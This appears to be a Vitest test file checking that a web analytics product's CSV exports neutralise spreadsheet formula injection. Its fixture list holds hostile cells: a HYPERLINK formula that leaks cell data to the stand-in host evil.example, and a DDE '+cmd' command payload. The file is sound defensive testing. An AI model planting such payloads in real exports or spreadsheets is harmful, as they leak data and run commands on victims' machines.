import { describe, expect, it } from 'vitest'
import { csvFiles, type ExportCell } from '../../../server/export/build.ts'
import { csvCell, csvText } from '../../../server/export/csv.ts'
import { toCsv } from '../../../dashboard/src/panels.ts'
import { parseCsv } from '../../helpers/csv.ts'

/** Hostile text cells: as a visitor sent them, as written, as a spreadsheet reads the cell back. */
const HOSTILE: [string, string, string][] = [
  ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`, `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3", "'-2+3"],
  ['@SUM(1)', "'@SUM(1)", "'@SUM(1)"],
  ['\t=1', "'\t=1", "'\t=1"],
  ['\r=1', `"'\r=1"`, "'\r=1"],
  ['=1,2', `"'=1,2"`, "'=1,2"],
  ['a "quoted", b', `"a ""quoted"", b"`, 'a "quoted", b'],
  ['line\nbreak', '"line\nbreak"', 'line\nbreak'],
  ['/pricing', '/pricing', '/pricing'],
  ['x=1', 'x=1', 'x=1'],
  ['', '', ''],
]

describe('CSV cells', () => {
  it.each(HOSTILE)('writes the text %j as %s', (value, written, read) => {
    expect(csvText(value)).toBe(written)
    expect(csvCell(value)).toBe(written)
    expect(parseCsv(`${written}\n`)).toEqual([[read]])
  })

  it('leaves numbers as numbers, negative ones too, and writes nothing for a missing one', () => {
    expect([-3, 0, 1.5, 12].map(csvCell)).toEqual(['-3', '0', '1.5', '12'])
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    // A minus sign sent as text is text: it is neutralised.
    expect(csvCell('-3')).toBe("'-3")
  })

  it('is the same rule in the dashboard download and the partner export', () => {
    const dashboard = parseCsv(toCsv(['page', 'visitors'], HOSTILE.map(([value], i) => [value, -i])))
    expect(dashboard[0]).toEqual(['page', 'visitors'])
    expect(dashboard.slice(1)).toEqual(HOSTILE.map(([, , read], i) => [read, String(-i)]))

    const cells: ExportCell[] = HOSTILE.map(([value], i) => ({ period: '2026-11-02', dimension: 'visit:isp', value, suppressed: false, metrics: { visitors: 10 + i, visits: -i } }))
    const files = csvFiles('example.lv', cells, { from: '2026-11-02', to: '2026-11-02' })
    const partner = parseCsv(files['skaits_isp_20261102_20261102.csv']!)
    expect(partner[0]).toEqual(['date', 'isp', 'visitors', 'visits', 'pageviews', 'bounces', 'visit_duration'])
    // Rows are in the order given; the value and the numbers read back as the dashboard's do.
    expect(partner.slice(1).map((r) => [r[1], r[2], r[3]])).toEqual(HOSTILE.map(([, , read], i) => [read, String(10 + i), String(-i)]))
  })
})
